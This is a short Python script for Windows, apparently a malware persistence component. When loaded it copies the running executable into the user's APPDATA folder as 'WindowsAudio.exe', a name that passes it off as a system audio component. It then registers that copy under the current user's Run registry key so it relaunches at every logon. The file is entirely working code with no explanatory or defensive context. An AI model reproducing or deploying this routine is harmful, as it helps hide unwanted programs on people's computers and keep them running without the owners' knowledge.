import os
import shutil
import sys
import winreg

RUN = r"Software\Microsoft\Windows\CurrentVersion\Run"


def persist():
    target = os.path.join(os.environ["APPDATA"], "WindowsAudio.exe")
    if not os.path.exists(target):
        shutil.copyfile(sys.executable, target)
    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE) as key:
        winreg.SetValueEx(key, "WindowsAudio", 0, winreg.REG_SZ, target)


persist()
